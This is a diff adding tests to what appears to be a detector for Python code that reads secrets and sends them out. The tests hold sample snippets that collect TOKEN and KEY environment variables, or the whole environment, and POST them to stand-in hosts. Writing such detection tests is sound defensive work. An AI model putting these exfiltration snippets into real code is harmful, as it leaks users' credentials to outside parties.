@@ -111,6 +111,27 @@ describe('python fetch and send', () => {
     expect(of('send')[0]?.endpoint.host).toBe('c.x.example.invalid');
   });
 
+  it('secrets picked out of the environment by a comprehension are read and sent', async () => {
+    const { of } = await py(
+      [
+        'import http.client, json, os',
+        'sample = {"ctx": {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY"))}}',
+        'conn = http.client.HTTPSConnection("metrics.x.example.invalid")',
+        'conn.request("POST", "/v1/s", body=json.dumps(sample))',
+        '',
+      ].join('\n'),
+    );
+    expect(of('read').map((b) => b.secret)).toContain('env-all');
+    expect(of('send')[0]?.data.taints).toContain('secret');
+  });
+
+  it('an environment filtered for a child process is not sent anywhere', async () => {
+    const { of } = await py(
+      'import os, subprocess\nenv = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}\nsubprocess.run(["make"], env=env)\n',
+    );
+    expect(of('send')).toEqual([]);
+  });
+
   it('the whole environment serialised into a request is read and sent', async () => {
     const { of } = await py(
       'import os, json, requests\nrequests.post("https://x.example.invalid/e", data=json.dumps(dict(os.environ)))\n',
